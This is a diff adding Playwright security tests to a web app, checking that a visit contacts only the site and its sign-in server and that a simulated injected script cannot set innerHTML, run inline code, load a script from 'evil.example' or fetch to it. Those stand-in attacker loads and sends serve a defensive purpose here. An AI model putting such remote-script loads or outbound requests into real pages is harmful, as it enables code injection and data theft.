@@ -1,4 +1,6 @@
 import { expect, test } from './fixtures'
+import { BLUE, makePng } from './pictures'
+import { publishChanges, untilPublished } from './publishing'
 
 test('every page runs only scripts that carry its own nonce, and can be framed by nobody', async ({
   request,
@@ -33,5 +35,63 @@ test('the health answer names the server and the version, and calls nobody', asy
     status: 'ok',
     server: sandbox.origin,
     version: expect.stringMatching(/^\d+\.\d+\.\d+$/),
+  })
+})
+
+test('a whole visit asks nobody but this site and the server a person signs in at', async ({
+  page,
+  account,
+  sandbox,
+  signIn,
+  baseURL,
+}) => {
+  const asked = new Set<string>()
+  page.context().on('request', (sent) => asked.add(new URL(sent.url()).origin))
+  await signIn(page, account.screen_name)
+  await page.getByLabel('Profile photo', { exact: true }).setInputFiles(makePng(500, 400, BLUE))
+  await page.getByRole('button', { name: 'Use picture' }).click()
+  await expect(page.getByText(/^(Prepared:|Fits as it is:)/).first()).toBeVisible()
+  await publishChanges(page)
+  await untilPublished(page)
+  for (const path of ['/history', '/looks', '/storage', '/nowhere', '/profile']) await page.goto(path)
+  // What a page makes itself, such as the address of a chosen picture, has no origin of anybody's.
+  expect([...asked].filter((origin) => origin !== 'null').sort()).toEqual([baseURL, sandbox.origin].sort())
+})
+
+test.describe('a script that got into a page', () => {
+  // The browser complains of each try; that is the point.
+  test.use({ expectedProblems: [/./] })
+
+  test('turns no text into code, loads none from elsewhere, and sends nothing away', async ({
+    page,
+    account,
+    signIn,
+  }) => {
+    await signIn(page, account.screen_name)
+    const tries = await page.evaluate(async () => {
+      const attempt = (work: () => unknown) => {
+        try {
+          work()
+          return 'done'
+        } catch (failure) {
+          return failure instanceof Error ? failure.name : 'refused'
+        }
+      }
+      const script = () => document.createElement('script')
+      return {
+        html: attempt(() => Reflect.set(document.createElement('div'), 'innerHTML', '<b>bold</b>')),
+        inline: attempt(() => Reflect.set(script(), 'text', 'window.isIn = true')),
+        foreign: attempt(() => Reflect.set(script(), 'src', 'https://evil.example/a.js')),
+        // A moment later: what a test itself runs may evaluate, whatever the policy says.
+        evaluated: await new Promise((tried) =>
+          setTimeout(() => tried(attempt(() => Reflect.construct(Function, ['return 1'])))),
+        ),
+        sent: await fetch('https://evil.example/').then(
+          () => 'done',
+          () => 'refused',
+        ),
+      }
+    })
+    expect(Object.entries(tries).filter(([, outcome]) => outcome === 'done')).toEqual([])
   })
 })
